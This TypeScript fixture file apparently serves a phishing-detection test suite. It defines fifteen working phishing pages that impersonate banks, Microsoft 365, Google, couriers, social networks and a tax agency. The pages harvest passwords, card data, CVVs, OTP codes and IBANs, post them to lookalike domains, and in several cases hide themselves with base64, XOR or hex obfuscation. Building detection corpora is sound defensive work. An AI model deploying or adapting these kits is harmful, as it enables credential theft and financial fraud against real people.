import type { Entry } from '../entry.js';
import { doc, analytics, beacon, logo, b64, xorB64, hexEsc, html, js, jsonRoute, redirectRoute, footer } from '../parts/zm-kit.js';

export const entries: Entry[] = [
  {
  id: 'zm-phish-wellsfargo-sms-link',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://wf-alerts-support.net/WF/auth/',
  body: doc({
    title: 'Wells Fargo – Sign On',
    css: `.top{background:#d71e28;height:6px}.bar{background:#ffcd41;height:4px}nav{padding:16px 32px;font-weight:700;color:#d71e28;font-size:22px}main{max-width:420px;margin:24px auto;padding:24px;background:#fff;box-shadow:0 2px 12px rgba(0,0,0,.15)}input{width:100%;padding:10px;margin:6px 0 14px}button{background:#d71e28;color:#fff;border:0;padding:12px 28px;border-radius:20px}`,
    body: `<div class="top"></div><div class="bar"></div><nav>WELLS FARGO</nav>
<main><h2>Good afternoon</h2><p>Sign on to manage your accounts. Your debit card has been temporarily restricted (Ref WF-22917).</p>
<form id="so"><label>Username</label><input name="j_username"><label>Password</label><input type="password" name="j_password">
<div id="step2" style="display:none"><label>Card number</label><input name="card" inputmode="numeric"><label>Expiration (MM/YY)</label><input name="exp"><label>CVV</label><input name="cvv" maxlength="4"><label>SSN (last 4)</label><input name="ssn4" maxlength="4"></div>
<button>Sign On</button></form></main>
${footer('Wells Fargo', ['Privacy, Cookies, Security &amp; Legal', 'Ad Choices', 'Report Fraud'])}
<script>
var st=1,f=document.getElementById('so');
f.onsubmit=function(e){e.preventDefault();var d=new URLSearchParams(new FormData(f));d.append('st',st);
 fetch('./gate.php',{method:'POST',body:d});
 if(st===1){st=2;document.getElementById('step2').style.display='block';f.querySelector('button').textContent='Verify';}
 else{location.replace('https://www.wellsfargo.com/');}};
</script>`,
  }),
  routes: { 'wf-alerts-support.net/WF/auth/gate.php': jsonRoute({ s: 'ok' }) },
},
  {
  id: 'zm-phish-bbva-es-bloqueo',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://bbva-clientes-seguridad.com/es/acceso/',
  body: doc({
    lang: 'es',
    title: 'BBVA España | Acceso clientes',
    css: `header{background:#072146;color:#fff;padding:20px 32px;font-size:24px;letter-spacing:2px}main{max-width:420px;margin:40px auto;background:#f4f4f4;padding:28px}input{width:100%;padding:12px;margin:6px 0 16px;border:0;border-bottom:2px solid #1973b8;background:#fff}button{width:100%;background:#1973b8;color:#fff;border:0;padding:14px}`,
    body: `<header>BBVA</header>
<main><h2>Acceso a tu banca online</h2>
<p>Hemos bloqueado temporalmente tu tarjeta por un intento de compra no reconocido de <b>749,90 €</b>. Identifícate para desbloquearla.</p>
<form id="f"><label>Tipo de documento</label><select name="tipo" style="width:100%;padding:10px;margin-bottom:14px"><option>NIF</option><option>NIE</option><option>Pasaporte</option></select>
<label>Número de documento</label><input name="doc"><label>Clave de acceso</label><input name="clave" type="password"><button>Entrar</button></form>
<div id="otp" style="display:none"><p>Introduce el código que te hemos enviado por SMS para confirmar la operación.</p><input id="sms" maxlength="6"><button onclick="send({sms:document.getElementById('sms').value})">Confirmar</button></div>
</main>
<script>
function send(o){var x=new XMLHttpRequest();x.open('POST','/es/acceso/api.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send(new URLSearchParams(o).toString());}
document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});send(o);this.style.display='none';document.getElementById('otp').style.display='block';});
</script>`,
  }),
  routes: { 'bbva-clientes-seguridad.com/es/acceso/api.php': jsonRoute({ r: 1 }) },
},
  {
  id: 'zm-phish-m365-b64-docwrite',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://sharepoint-docs-review.online/x/7QpLm2/',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>&#8203;</title></head><body>
<script>
var _0x3a=['d3JpdGU=','ZG9jdW1lbnQ='];
var p1="${b64(doc({
    title: 'Sign in to your account',
    css: `body{background:#f2f2f2}.card{width:440px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.ms{display:grid;grid-template-columns:10px 10px;gap:1px;margin-bottom:16px}.ms i{width:10px;height:10px;display:block}input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;margin:14px 0;font-size:15px}button{float:right;background:#0067b8;color:#fff;border:0;padding:8px 32px}`,
    body: `<div class="card"><div class="ms"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></div><b>Microsoft</b>
<h2 style="font-weight:600">Sign in</h2><p style="font-size:13px">to continue to SharePoint — <i>Q4_Remittance_Advice.pdf</i> was shared with you</p>
<form id="lf"><input id="em" type="email" name="loginfmt" placeholder="Email, phone, or Skype"><input id="pw" type="password" name="passwd" placeholder="Password"><p style="font-size:13px"><a href="#">Forgot my password</a></p><button>Sign in</button></form></div>
<script>document.getElementById('lf').onsubmit=function(e){e.preventDefault();fetch('https://sharepoint-docs-review.online/x/7QpLm2/next.php',{method:'POST',body:new URLSearchParams({u:document.getElementById('em').value,p:document.getElementById('pw').value})}).then(function(){document.getElementById('pw').value='';alert('Your account or password is incorrect. If you don\\'t remember your password, reset it now.')})}<\/script>`,
  }))}";
window[atob(_0x3a[1])][atob(_0x3a[0])](decodeURIComponent(escape(atob(p1))));
</script></body></html>`,
  routes: { 'sharepoint-docs-review.online/x/7QpLm2/next.php': jsonRoute({ status: 'retry' }) },
},
  {
  id: 'zm-phish-m365-xor-encrypted-hash-email',
  label: 'phishing',
  kind: 'encrypted-kit',
  url: 'https://nrt-filetransfer.cloud/r/index.html#aW52b2ljZXNAZXhhbXBsZS1jb3JwLmNvbQ==',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="robots" content="noindex,nofollow"><title>Loading...</title>
<style>body{font-family:Segoe UI,sans-serif;background:#fff}.sp{width:32px;height:32px;border:3px solid #0078d4;border-top-color:transparent;border-radius:50%;margin:120px auto;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}</style></head>
<body><div class="sp"></div>
<script>
(function(){var k='n4Rq'+'x82Z',d=atob("${xorB64(`<div style="max-width:440px;margin:80px auto;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)"><img src="/r/ms.png" width="108" height="24" alt="Microsoft"><h2>Enter password</h2><p id="who"></p><form id="f"><input type="password" id="p" placeholder="Password" style="width:100%;padding:8px;border:0;border-bottom:1px solid #666"><p><a href="#">Forgot my password</a></p><button style="background:#0067b8;color:#fff;border:0;padding:8px 30px;float:right">Sign in</button></form><p style="clear:both;font-size:12px;color:#666;padding-top:30px">Terms of use  Privacy &amp; cookies</p></div>`, 'n4Rqx82Z')}"),o='';
for(var i=0;i<d.length;i++)o+=String.fromCharCode(d.charCodeAt(i)^k.charCodeAt(i%k.length));
setTimeout(function(){document.body.innerHTML=decodeURIComponent(escape(o));
var em='';try{em=atob(location.hash.slice(1))}catch(e){}
document.getElementById('who').textContent=em;var n=0;
document.getElementById('f').onsubmit=function(e){e.preventDefault();n++;
fetch('/r/api/v2/auth',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({e:em,p:document.getElementById('p').value,n:n})});
if(n>=2){location.replace('https://outlook.office.com/mail/')}else{document.getElementById('p').value='';alert('Your account or password is incorrect.')}}},1200);})();
</script></body></html>`,
  routes: { ...logo('nrt-filetransfer.cloud', '/r/ms.png', 115, 115, 115), 'nrt-filetransfer.cloud/r/api/v2/auth': jsonRoute({ ok: true }) },
},
  {
  id: 'zm-phish-gmail-storage-full',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://accounts-google.storage-alerts.info/signin/v2/identifier',
  body: doc({
    title: 'Sign in - Google Accounts',
    css: `body{background:#fff}.b{width:450px;margin:60px auto;border:1px solid #dadce0;border-radius:8px;padding:48px 40px;text-align:center}.g span{font-size:24px;font-weight:500}input{width:100%;padding:14px;border:1px solid #dadce0;border-radius:4px;margin:18px 0;font-size:16px}button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 24px;float:right}`,
    body: `<div class="b"><div class="g"><span style="color:#4285f4">G</span><span style="color:#ea4335">o</span><span style="color:#fbbc05">o</span><span style="color:#4285f4">g</span><span style="color:#34a853">l</span><span style="color:#ea4335">e</span></div>
<h1 style="font-weight:400;font-size:24px">Sign in</h1><p>Your Google storage is full (15 GB of 15 GB used). Sign in to keep receiving email.</p>
<form method="post" action="/signin/v2/challenge/pwd"><input type="email" name="identifier" placeholder="Email or phone"><input type="password" name="Passwd" placeholder="Enter your password"><div style="text-align:left"><a href="#" style="color:#1a73e8">Forgot email?</a></div><br><button>Next</button></form></div>
<p style="text-align:center;font-size:12px;color:#666">English (United States) &nbsp; Help &nbsp; Privacy &nbsp; Terms</p>`,
  }),
  routes: { 'accounts-google.storage-alerts.info/signin/v2/challenge/pwd': redirectRoute(302, 'https://mail.google.com/') },
},
  {
  id: 'zm-phish-dhl-zollgebuehr-de',
  label: 'phishing',
  kind: 'shipping-kit',
  url: 'https://dhl-paketankuendigung-zoll.info/sendung/DE8823019/',
  body: doc({
    lang: 'de',
    title: 'DHL Paket – Zustellung ausstehend',
    css: `header{background:#ffcc00;padding:14px 32px;font-weight:900;color:#d40511;font-size:26px;font-style:italic}main{max-width:620px;margin:30px auto;padding:0 20px}.st{display:flex;gap:6px}.st i{flex:1;height:6px;background:#d40511}.st i.o{background:#ddd}input{width:100%;padding:11px;margin:5px 0 13px;border:1px solid #999}button{background:#d40511;color:#fff;border:0;padding:13px 40px}`,
    body: `<header>DHL</header>
<main><h2>Ihre Sendung 00340434 1822 0193 31 wartet auf Zustellung</h2>
<div class="st"><i></i><i></i><i></i><i class="o"></i></div>
<p>Für Ihre Sendung fallen Zollgebühren in Höhe von <b>2,99 €</b> an. Bitte begleichen Sie die Gebühren innerhalb von 48 Stunden, sonst wird das Paket an den Absender zurückgeschickt.</p>
<form action="zahlung.php" method="post"><label>Vor- und Nachname</label><input name="name"><label>Straße, Nr.</label><input name="str"><label>PLZ / Ort</label><input name="plz">
<label>Kartennummer</label><input name="kk" inputmode="numeric" autocomplete="cc-number"><label>Gültig bis</label><input name="ab" placeholder="MM/JJ"><label>Prüfnummer (CVC)</label><input name="cvc" maxlength="3">
<button>2,99 € bezahlen</button></form>
<p style="font-size:12px;color:#777">Deutsche Post DHL Group · Impressum · Datenschutz · AGB</p></main>`,
  }),
  routes: { 'dhl-paketankuendigung-zoll.info/sendung/DE8823019/zahlung.php': html('<!doctype html><html lang="de"><h3>3-D Secure</h3><p>Geben Sie den SMS-Code Ihrer Bank ein.</p><form><input name="code"><button>Bestätigen</button></form></html>') },
},
  {
  id: 'zm-phish-colissimo-fr-redelivery',
  label: 'phishing',
  kind: 'shipping-kit',
  url: 'https://laposte-suivi-colis.fr-livraison.com/colissimo/reprogrammer',
  body: doc({
    lang: 'fr',
    title: 'Colissimo – Reprogrammer votre livraison',
    css: `header{background:#003da5;color:#fff;padding:18px 30px;display:flex;justify-content:space-between}.y{background:#ffc800;color:#003da5;padding:2px 8px;font-weight:700}main{max-width:560px;margin:30px auto;padding:0 16px}.card{border:1px solid #ddd;padding:20px;border-radius:6px}input{width:100%;padding:10px;margin:5px 0 12px}button{background:#ffc800;color:#003da5;border:0;padding:12px;width:100%;font-weight:700}`,
    body: `<header><span><span class="y">La Poste</span> Colissimo</span><span>Suivi · Aide</span></header>
<main><div class="card"><h2>Échec de livraison</h2><p>Votre colis <b>6A19382746102</b> n'a pas pu être livré : adresse incomplète. Des frais de reprogrammation de <b>1,45 €</b> s'appliquent.</p>
<form id="p"><input name="nom" placeholder="Nom complet"><input name="adresse" placeholder="Adresse"><input name="cp" placeholder="Code postal"><input name="tel" placeholder="Téléphone mobile"><hr><input name="cc" placeholder="Numéro de carte bancaire"><input name="exp" placeholder="MM/AA"><input name="cvv" placeholder="CVV"><button>Payer 1,45 €</button></form></div></main>
<script src="/colissimo/assets/app.min.js"></script>`,
  }),
  routes: {
    'laposte-suivi-colis.fr-livraison.com/colissimo/assets/app.min.js': js(`!function(){var f=document.getElementById("p");f.addEventListener("submit",function(e){e.preventDefault();var o=Object.fromEntries(new FormData(f));fetch("/colissimo/api/tg.php",{method:"POST",body:JSON.stringify(o)}).then(function(){location.href="/colissimo/3ds"})})}();`),
    'laposte-suivi-colis.fr-livraison.com/colissimo/api/tg.php': jsonRoute({ ok: 1 }),
  },
},
  {
  id: 'zm-phish-usps-redirect-chain',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://t.usps-notice.top/p/8817',
  routes: {
    't.usps-notice.top/p/8817': redirectRoute(302, 'https://go.trk-parcelhub.xyz/c?u=8817&s=sms'),
    'go.trk-parcelhub.xyz/c': html('<!doctype html><meta http-equiv="refresh" content="0;url=https://usps.packages-redeliver.com/track/IncompleteAddress"><title>Redirecting</title>'),
    'usps.packages-redeliver.com/track/IncompleteAddress': html(doc({
      title: 'USPS.com® - USPS Tracking® Results',
      css: `header{background:#333366;color:#fff;padding:16px 32px;font-weight:700}main{max-width:640px;margin:24px auto;padding:0 16px}.alert{background:#fde9e9;color:#a00;padding:12px;margin-bottom:16px}input{width:100%;padding:10px;margin:4px 0 12px}button{background:#333366;color:#fff;border:0;padding:12px 36px}`,
      body: `<header>USPS.COM</header><main><div class="alert">Status: Delivery attempted – address incomplete</div>
<p>Tracking Number: <b>9400 1118 9922 3814 5567 20</b></p><p>Please update your address and pay the $0.30 redelivery fee within 12 hours.</p>
<form method="post" action="/track/pay"><input name="fullname" placeholder="Full name"><input name="address" placeholder="Street address"><input name="zip" placeholder="ZIP"><input name="card" placeholder="Card number"><input name="exp" placeholder="MM/YY"><input name="cvv" placeholder="CVV"><button>Submit</button></form></main>`,
    })),
  },
},
  {
  id: 'zm-phish-meta-page-appeal',
  label: 'phishing',
  kind: 'social-kit',
  url: 'https://meta-business-appeals.help/case/1002938471/',
  body: doc({
    title: 'Meta for Business | Page Policy Appeal',
    css: `body{background:#f0f2f5}.w{max-width:600px;margin:40px auto;background:#fff;border-radius:8px;padding:28px;box-shadow:0 1px 2px rgba(0,0,0,.2)}input,textarea{width:100%;padding:11px;border:1px solid #ccd0d5;border-radius:6px;margin:6px 0 12px}button{background:#1877f2;color:#fff;border:0;border-radius:6px;padding:11px 20px;font-weight:600}.modal{display:none;position:fixed;inset:0;background:rgba(0,0,0,.5)}.modal div{background:#fff;max-width:400px;margin:120px auto;padding:24px;border-radius:8px}`,
    body: `<div class="w"><h2 style="color:#1877f2">Meta Business Help Center</h2>
<p>Your page has been scheduled for permanent deletion due to a copyright infringement report (Case #1002938471). If you believe this is a mistake, submit an appeal within 24 hours.</p>
<form id="a"><input name="fullname" placeholder="Full name"><input name="email" placeholder="Business email"><input name="phone" placeholder="Phone number"><input name="page" placeholder="Page name"><textarea name="msg" placeholder="Please explain why you believe this is a mistake"></textarea><button>Submit appeal</button></form></div>
<div class="modal" id="m"><div><b>Please enter your password to continue</b><p style="font-size:13px">For your security, you must re-enter your password.</p><input type="password" id="pw"><button id="c">Continue</button><p id="e" style="color:#c00;display:none">The password you've entered is incorrect.</p></div></div>
<script>
var data={},tries=0;
document.getElementById('a').onsubmit=function(e){e.preventDefault();new FormData(this).forEach(function(v,k){data[k]=v});document.getElementById('m').style.display='block'};
document.getElementById('c').onclick=function(){tries++;data['pass'+tries]=document.getElementById('pw').value;
fetch('https://meta-business-appeals.help/api/send.php',{method:'POST',body:JSON.stringify(data)});
if(tries<2){document.getElementById('e').style.display='block';document.getElementById('pw').value=''}else{location.href='/case/1002938471/2fa'}};
</script>`,
  }),
  routes: {
    'meta-business-appeals.help/api/send.php': jsonRoute({ ok: true }),
    'meta-business-appeals.help/case/1002938471/2fa': html('<!doctype html><h3>Two-factor authentication required</h3><p>Enter the 6-digit code from your authenticator app or SMS.</p><form><input name="code" maxlength="8"><button>Submit</button></form>'),
  },
},
  {
  id: 'zm-phish-instagram-copyright-tr',
  label: 'phishing',
  kind: 'social-kit',
  url: 'https://instagram-telif-destek.com/hesap/itiraz',
  body: doc({
    lang: 'tr',
    title: 'Instagram | Telif Hakkı İtiraz Formu',
    css: `body{background:#fafafa}.c{max-width:380px;margin:50px auto;background:#fff;border:1px solid #dbdbdb;padding:32px;text-align:center}.logo{font-family:cursive;font-size:34px}input{width:100%;padding:9px;background:#fafafa;border:1px solid #dbdbdb;margin:4px 0}button{width:100%;background:#0095f6;color:#fff;border:0;border-radius:8px;padding:8px;margin-top:10px;font-weight:600}`,
    body: `<div class="c"><div class="logo">Instagram</div>
<p style="font-size:14px">Hesabınız telif hakkı ihlali nedeniyle 24 saat içinde kalıcı olarak kapatılacaktır. Bunun bir hata olduğunu düşünüyorsanız itiraz formunu doldurun.</p>
<form action="/hesap/gonder.php" method="post"><input name="username" placeholder="Kullanıcı adı"><input name="password" type="password" placeholder="Şifre"><input name="email" placeholder="E-posta adresi"><button>İtiraz Gönder</button></form>
<p style="font-size:11px;color:#8e8e8e">© 2026 Instagram from Meta</p></div>`,
  }),
  routes: { 'instagram-telif-destek.com/hesap/gonder.php': redirectRoute(302, 'https://www.instagram.com/') },
},
  {
  id: 'zm-phish-agenzia-entrate-it-rimborso',
  label: 'phishing',
  kind: 'gov-kit',
  url: 'https://agenziaentrate-rimborsi.eu/portale/spid-accesso.html',
  body: doc({
    lang: 'it',
    title: 'Agenzia delle Entrate - Accesso area riservata',
    css: `header{background:#0066cc;color:#fff;padding:20px 36px}main{max-width:520px;margin:36px auto;padding:0 16px}.spid{background:#06c;color:#fff;border:0;padding:12px 22px;border-radius:4px}.tabs a{margin-right:14px}input{width:100%;padding:10px;margin:6px 0 14px;border:1px solid #5c6f82}`,
    body: `<header><b>Agenzia delle Entrate</b><br><small>Area riservata</small></header>
<main><p>Gentile contribuente, risulta un <b>rimborso IRPEF di € 612,40</b> non ancora erogato. Acceda con le sue credenziali per confermare l'IBAN di accredito.</p>
<div class="tabs"><a href="#">SPID</a><a href="#">CIE</a><a href="#"><b>Credenziali Fisconline</b></a></div>
<form id="ae"><label>Codice fiscale</label><input name="cf"><label>Password</label><input type="password" name="pw"><label>PIN</label><input name="pin" type="password"><label>IBAN</label><input name="iban" placeholder="IT60 X054 2811 1010 0000 0123 456"><button class="spid">Accedi</button></form>
<p style="font-size:12px">© Agenzia delle Entrate – Note legali – Privacy – Accessibilità</p></main>
<script>document.getElementById('ae').onsubmit=function(e){e.preventDefault();fetch('/portale/invio.php',{method:'POST',body:new FormData(this)}).then(function(){location='/portale/attesa.html'})}</script>`,
  }),
  routes: { 'agenziaentrate-rimborsi.eu/portale/invio.php': jsonRoute({ esito: 'ok' }), 'agenziaentrate-rimborsi.eu/portale/attesa.html': html('<!doctype html><p>Operazione in corso, attendere la telefonata di un operatore.</p>') },
},
  {
  id: 'zm-phish-rakuten-hex-escaped',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://rakuten-card-kakunin.jp-member.com/login/',
  body: `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>楽天会員ログイン</title></head><body>
<noscript>JavaScriptを有効にしてください</noscript>
<script>eval(function(s){return decodeURIComponent(escape(s))}("${hexEsc(`document.write('<div style="max-width:400px;margin:40px auto;font-family:sans-serif"><h1 style="color:#bf0000">Rakuten</h1><h3>楽天カード ご利用確認</h3><p>お客様のカードに不正利用の可能性がある取引が確認されました。ご本人確認のため、ログインしてカード情報をご確認ください。</p><form action="/login/chk.php" method="post"><input name="u" placeholder="ユーザID" style="width:100%;padding:10px;margin:6px 0"><input name="p" type="password" placeholder="パスワード" style="width:100%;padding:10px;margin:6px 0"><input name="cn" placeholder="カード番号" style="width:100%;padding:10px;margin:6px 0"><input name="ex" placeholder="有効期限" style="width:100%;padding:10px;margin:6px 0"><input name="sc" placeholder="セキュリティコード" style="width:100%;padding:10px;margin:6px 0"><button style="width:100%;background:#bf0000;color:#fff;border:0;padding:12px">ログイン</button></form><p style="font-size:11px">© Rakuten Group, Inc.</p></div>')`)}"));</script>
</body></html>`,
  routes: { 'rakuten-card-kakunin.jp-member.com/login/chk.php': html('<!doctype html><p>確認中...</p>') },
},
  {
  id: 'zm-phish-docusign-lure-to-o365',
  label: 'phishing',
  kind: 'lure-page',
  url: 'https://docusign-envelope.review-portal.co/Signing/EnvelopeId=4f8a2c11',
  body: doc({
    title: 'DocuSign',
    css: `body{background:#f4f4f4}.t{background:#fff;max-width:600px;margin:40px auto;border-top:6px solid #ffc820}.h{background:#1e1e1e;color:#fff;padding:36px;text-align:center}.b{padding:28px}a.btn{display:inline-block;background:#ffc820;color:#000;padding:14px 28px;text-decoration:none;font-weight:700;border-radius:3px}`,
    body: `<div class="t"><div class="h"><div style="font-size:28px">DocuSign</div><p>Olivia Brennan sent you a document to review and sign.</p><a class="btn" href="https://docusign-envelope.review-portal.co/auth/o365?env=4f8a2c11">REVIEW DOCUMENT</a></div>
<div class="b"><p><b>Olivia Brennan</b><br>Payroll &amp; Benefits</p><p>Please review and complete: <i>2026_Salary_Adjustment_Q1.pdf</i></p><p style="font-size:12px;color:#666">Do Not Share This Email. This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.</p></div></div>`,
  }),
  routes: {
    'docusign-envelope.review-portal.co/auth/o365': html(doc({
      title: 'Sign in to your account',
      body: `<div style="width:440px;margin:80px auto;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)"><b>Microsoft</b><h2>Sign in</h2><p>to view your DocuSign document</p><form method="post" action="/auth/o365/post"><input name="login" type="email" placeholder="someone@example.com" style="width:100%;padding:8px;margin:8px 0"><input name="passwd" type="password" placeholder="Password" style="width:100%;padding:8px;margin:8px 0"><button style="background:#0067b8;color:#fff;border:0;padding:8px 30px">Sign in</button></form></div>`,
    })),
  },
},
  {
  id: 'zm-phish-dropbox-html-attachment-local-form',
  label: 'phishing',
  kind: 'lure-page',
  url: 'https://dbx-transfer-files.net/s/vw3k9/Payment_Copy.html',
  body: doc({
    title: 'Dropbox - Payment_Copy.pdf',
    css: `body{background:#f7f5f2}.blur{filter:blur(6px);max-width:700px;margin:30px auto;background:#fff;height:500px;padding:40px}.blur p{border-bottom:1px solid #ccc;height:18px}.ov{position:fixed;inset:0;display:flex;align-items:center;justify-content:center}.ov div{background:#fff;padding:30px;width:380px;box-shadow:0 4px 24px rgba(0,0,0,.3);border-radius:8px}input{width:100%;padding:10px;margin:6px 0}button{width:100%;background:#0061fe;color:#fff;border:0;padding:11px;border-radius:4px}`,
    body: `<div class="blur"><h2>INVOICE #88231</h2>${'<p></p>'.repeat(14)}</div>
<div class="ov"><div><b style="color:#0061fe;font-size:22px">Dropbox</b><p>Payment_Copy.pdf (212 KB)</p><p style="font-size:13px">This file is protected. Verify your email account to view and download.</p>
<select id="prov" style="width:100%;padding:9px"><option>Outlook / Office 365</option><option>Gmail</option><option>Yahoo</option><option>AOL</option><option>Other mail</option></select>
<input id="e" placeholder="Email address"><input id="p" type="password" placeholder="Email password"><button id="v">View Document</button><p id="err" style="color:#c00;font-size:13px"></p></div></div>
<script>
document.getElementById('v').onclick=function(){var e=document.getElementById('e').value,p=document.getElementById('p').value;
if(!/@/.test(e)||p.length<4){document.getElementById('err').textContent='Please enter a valid email and password.';return}
var img=new Image();img.src='/s/vw3k9/l.php?e='+btoa(e)+'&p='+btoa(p)+'&pv='+document.getElementById('prov').value;
document.getElementById('err').textContent='Network error. Please try again.';};
</script>`,
  }),
  routes: { 'dbx-transfer-files.net/s/vw3k9/l.php': { status: 200, headers: { 'content-type': 'image/gif' }, body: Buffer.from('R0lGODlhAQABAAAAACw=', 'base64') } },
},
  {
  id: 'zm-phish-linkedin-brand-at-userinfo',
  label: 'phishing',
  kind: 'social-kit',
  url: 'https://jobs-viewer.work/in/session/',
  submittedUrl: 'https://www.linkedin.com@jobs-viewer.work/in/session/',
  body: doc({
    title: 'LinkedIn Login, Sign in | LinkedIn',
    css: `.c{max-width:360px;margin:60px auto;padding:24px;box-shadow:0 4px 12px rgba(0,0,0,.15);border-radius:8px}.l{color:#0a66c2;font-weight:700;font-size:28px}input{width:100%;padding:12px;margin:6px 0;border:1px solid #888;border-radius:4px}button{width:100%;background:#0a66c2;color:#fff;border:0;border-radius:24px;padding:12px;margin-top:10px}`,
    body: `<div class="c"><div class="l">Linked<span style="background:#0a66c2;color:#fff;padding:0 4px;border-radius:3px">in</span></div><h2>Sign in</h2><p>A recruiter from Shell plc wants to share a position with you. Sign in to view the message.</p>
<form method="post" action="/in/session/submit"><input name="session_key" placeholder="Email or Phone"><input name="session_password" type="password" placeholder="Password"><button>Sign in</button></form></div>`,
  }),
  routes: { 'jobs-viewer.work/in/session/submit': redirectRoute(302, 'https://www.linkedin.com/jobs/') },
},
];
